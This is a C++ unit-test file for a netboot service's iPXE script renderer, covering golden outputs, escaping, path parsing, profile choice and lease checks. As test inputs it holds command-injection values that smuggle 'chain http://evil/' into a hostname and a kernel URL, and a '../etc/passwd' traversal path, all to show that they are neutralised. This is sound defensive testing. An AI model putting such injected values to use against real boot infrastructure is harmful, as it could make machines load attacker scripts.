// The generated iPXE script: golden outputs, escaping of values from the network, paths.
#include <gtest/gtest.h>

#include "boot/ipxe_script.hpp"
#include "boot/profile_choice.hpp"
#include "boot/script_answer.hpp"

namespace netboot::boot {
namespace {

MachineFacts facts() {
  MachineFacts f;
  f.mac = *MacAddress::parse("52:54:00:12:34:56");
  f.address = *Ipv4Address::parse("10.0.0.100");
  f.uuid = *Uuid::parse("12345678-abcd-ef01-2345-6789abcdef01");
  f.hostname = "node7";
  f.server = *Ipv4Address::parse("10.0.0.1");
  f.http_base = "http://10.0.0.1:8080";
  f.profile = "debian12";
  return f;
}

TEST(IpxeScript, GoldenProfileScript) {
  const BootSpec spec{"debian/vmlinuz",
                      {"debian/initrd.img", "https://mirror.example/{mac_hyphen}/extra.cpio"},
                      "console=ttyS0 ip={address} uuid={uuid} host={hostname} srv={server} p={profile} base={http_base}",
                      "profile debian12",
                      true};
  const auto script = render_ipxe_script(spec, facts());
  ASSERT_TRUE(script) << script.error().detail;
  EXPECT_EQ(*script,
            "#!ipxe\n"
            "# netbootd: profile debian12 for 52:54:00:12:34:56\n"
            "kernel --name kernel http://10.0.0.1:8080/debian/vmlinuz initrd=initrd0 initrd=initrd1 console=ttyS0 "
            "ip=10.0.0.100 uuid=12345678-abcd-ef01-2345-6789abcdef01 host=node7 srv=10.0.0.1 p=debian12 "
            "base=http://10.0.0.1:8080\n"
            "initrd --name initrd0 http://10.0.0.1:8080/debian/initrd.img\n"
            "initrd --name initrd1 https://mirror.example/52-54-00-12-34-56/extra.cpio\n"
            "boot kernel\n");
}

TEST(IpxeScript, GoldenKernelOnly) {
  const BootSpec spec{"http://other.example/k", {}, "", "profile tiny", true};
  const auto script = render_ipxe_script(spec, facts());
  ASSERT_TRUE(script);
  EXPECT_EQ(*script,
            "#!ipxe\n# netbootd: profile tiny for 52:54:00:12:34:56\n"
            "kernel --name kernel http://other.example/k\nboot kernel\n");
}

// A host name (or any value from the network) cannot add a line, a ${setting}, an argument
// or a URL part to the script: every byte outside [A-Za-z0-9._:-] is %XX.
TEST(IpxeScript, HostileValuesAreInert) {
  auto f = facts();
  f.hostname = "x\n#!ipxe\nchain http://evil/ ${net0/mac} a b\"'\\{mac}/&?#\r";
  const BootSpec spec{"k/{hostname}", {}, "h={hostname} u={uuid}", "profile p", true};
  const auto script = render_ipxe_script(spec, f);
  ASSERT_TRUE(script) << script.error().detail;
  const std::string escaped =
      "x%0A%23%21ipxe%0Achain%20http:%2F%2Fevil%2F%20%24%7Bnet0%2Fmac%7D%20a%20b%22%27%5C%7Bmac%7D%2F%26%3F%23%0D";
  EXPECT_EQ(*script, "#!ipxe\n# netbootd: profile p for 52:54:00:12:34:56\n"
                     "kernel --name kernel http://10.0.0.1:8080/k/" + escaped +
                     " h=" + escaped + " u=12345678-abcd-ef01-2345-6789abcdef01\nboot kernel\n");
  // Exactly the four lines, and no '$' or '{' anywhere.
  EXPECT_EQ(std::count(script->begin(), script->end(), '\n'), 4);
  EXPECT_EQ(script->find('$'), std::string::npos);
  EXPECT_EQ(script->find('{'), std::string::npos);
}

TEST(IpxeScript, EscapeBoundsTheValue) {
  EXPECT_EQ(escape_value(std::string(1000, 'a')).size(), kMaxValueBytes);
  EXPECT_EQ(escape_value(std::string(1000, ' ')).size(), 3 * kMaxValueBytes);
  EXPECT_EQ(escape_value("Node-7.lab_1:x"), "Node-7.lab_1:x");
}

TEST(IpxeScript, MissingValuesExpandToNothing) {
  MachineFacts f = facts();
  f.uuid.reset();
  f.address.reset();
  f.hostname.clear();
  const auto expanded = expand_template("a={address} u={uuid} h={hostname} {{literal}}", f);
  ASSERT_TRUE(expanded);
  EXPECT_EQ(*expanded, "a= u= h= {literal}");
}

TEST(IpxeScript, ApiValuesAreNotTemplatesButAreChecked) {
  BootSpec spec{"http://api.example/k?x={mac}", {"i"}, "a={mac} ${x}", "boot API", false};
  const auto script = render_ipxe_script(spec, facts());
  ASSERT_TRUE(script);
  EXPECT_NE(script->find("kernel --name kernel http://api.example/k?x={mac} initrd=initrd0 a={mac} ${x}\n"), std::string::npos);
  spec.kernel = "http://api.example/k\nchain http://evil/";
  EXPECT_FALSE(render_ipxe_script(spec, facts()));
  spec.kernel = "k";
  spec.cmdline = "a\nb";
  EXPECT_FALSE(render_ipxe_script(spec, facts()));
  spec.cmdline = "";
  auto f = facts();
  f.http_base.clear();
  EXPECT_FALSE(render_ipxe_script(spec, f));  // a name, and no HTTP service
}

TEST(IpxeScript, NamesArePercentEncodedInUrls) {
  EXPECT_EQ(location_url("/dir/a b#c.img", facts()), "http://10.0.0.1:8080/dir/a%20b%23c.img");
  EXPECT_EQ(location_url("https://x/y", facts()), "https://x/y");
}

TEST(IpxeScript, ScriptPaths) {
  const auto mac = *MacAddress::parse("52:54:00:AB:cd:EF");
  EXPECT_EQ(script_path(mac), "boot/52-54-00-ab-cd-ef.ipxe");
  EXPECT_EQ(script_path_mac("/boot/52-54-00-ab-cd-ef.ipxe"), mac);
  EXPECT_EQ(script_path_mac("BOOT/52:54:00:AB:CD:EF.iPXE"), mac);
  for (const char* bad : {"boot/52-54-00-ab-cd-e.ipxe", "boot/52-54-00-ab-cd-efa.ipxe", "boot/../etc/passwd.ipxe",
                          "boot/52-54-00-ab-cd-ef.ipxe.bak", "x/52-54-00-ab-cd-ef.ipxe", "boot/525400abcdef.ipxe..",
                          "boot/52_54_00_ab_cd_ef.ipxe", "", "/"})
    EXPECT_FALSE(script_path_mac(bad)) << bad;
}

config::BootProfiles two_profiles() {
  config::BootProfiles b;
  b.profiles.push_back({"a", "ka", {}, "", {}});
  b.profiles.push_back({"b", "kb", {}, "", {}});
  b.profiles.push_back({"c", "kc", {}, "", {}});
  b.by_mac.push_back({*MacPrefix::parse("52-54-00/24"), 0, {}});
  b.by_mac.push_back({*MacPrefix::parse("52-54-00-12-34-56"), 1, {}});
  b.by_uuid.push_back({*UuidPrefix::parse("12345678-abcd/48"), 2, {}});
  return b;
}

TEST(ProfileChoice, MostSpecificMacThenUuidThenApiThenDefault) {
  auto b = two_profiles();
  const auto uuid = Uuid::parse("12345678-abcd-ef01-2345-6789abcdef01");
  EXPECT_EQ(choose_profile(b, *MacAddress::parse("52-54-00-12-34-56"), uuid).profile->name, "b");
  EXPECT_EQ(choose_profile(b, *MacAddress::parse("52-54-00-99-34-56"), uuid).profile->name, "a");
  EXPECT_EQ(choose_profile(b, *MacAddress::parse("02-00-00-00-00-01"), uuid).profile->name, "c");
  EXPECT_TRUE(choose_profile(b, *MacAddress::parse("02-00-00-00-00-01"), std::nullopt).none());
  b.fallback = 0;
  EXPECT_EQ(choose_profile(b, *MacAddress::parse("02-00-00-00-00-01"), std::nullopt).profile->name, "a");
  b.fallback.reset();
  // An exact MAC from the loader's index; the last of equal prefixes wins (as a repeated key).
  b.by_exact_mac[*MacAddress::parse("02-00-00-00-00-02")] = 2;
  EXPECT_EQ(choose_profile(b, *MacAddress::parse("02-00-00-00-00-02"), std::nullopt).profile->name, "c");
  b.by_mac.push_back({*MacPrefix::parse("52-54-00/24"), 2, {}});
  EXPECT_EQ(choose_profile(b, *MacAddress::parse("52-54-00-99-34-56"), std::nullopt).profile->name, "c");
  b.api.url = "http://api";
  const auto api = choose_profile(b, *MacAddress::parse("02-00-00-00-00-01"), std::nullopt);
  EXPECT_TRUE(api.ask_api);
  EXPECT_EQ(api.profile, nullptr);
}

ScriptQuestion question() {
  ScriptQuestion q;
  q.mac = *MacAddress::parse("52:54:00:12:34:56");
  q.peer = *Ipv4Address::parse("10.0.0.100");
  q.server = *Ipv4Address::parse("10.0.0.1");
  q.http_base = "http://10.0.0.1";
  return q;
}

TEST(ScriptAnswer, AddressModeServesOnlyTheLeaseHolder) {
  const auto b = two_profiles();
  auto q = question();
  q.leases_known = true;
  EXPECT_EQ(answer_script_request(b, nullptr, q).status, 403);  // no lease at all
  q.lease = LeaseView{*Ipv4Address::parse("10.0.0.101"), true, {}, ""};
  EXPECT_EQ(answer_script_request(b, nullptr, q).status, 403);  // another machine's script
  q.lease->address = q.peer;
  q.lease->active = false;
  EXPECT_EQ(answer_script_request(b, nullptr, q).status, 403);  // expired
  q.lease->active = true;
  q.lease->hostname = "n1";
  const auto ok = answer_script_request(b, nullptr, q);
  ASSERT_EQ(ok.status, 200) << ok.reason;
  EXPECT_NE(ok.script.find("kernel --name kernel http://10.0.0.1/kb\n"), std::string::npos) << ok.script;
}

TEST(ScriptAnswer, ProxyModeUuidFromTheDirectoryAndApiAnswers) {
  auto b = two_profiles();
  auto q = question();
  q.mac = *MacAddress::parse("02:00:00:00:00:01");
  EXPECT_EQ(answer_script_request(b, nullptr, q).status, 404);
  MachineRecord record;
  record.uuid = Uuid::parse("12345678-abcd-0000-0000-000000000000");
  const auto by_uuid = answer_script_request(b, &record, q);
  ASSERT_EQ(by_uuid.status, 200);
  EXPECT_NE(by_uuid.script.find("/kc\n"), std::string::npos);
  b.by_uuid.clear();
  b.api.url = "http://api";
  EXPECT_EQ(answer_script_request(b, &record, q).status, 404);  // no answer of the API yet
  record.api_spec = BootSpec{"http://k/{x}", {}, "c", "boot API", false};
  const auto api = answer_script_request(b, &record, q);
  ASSERT_EQ(api.status, 200);
  EXPECT_NE(api.script.find("kernel --name kernel http://k/{x} c\n"), std::string::npos) << api.script;
}

}  // namespace
}  // namespace netboot::boot
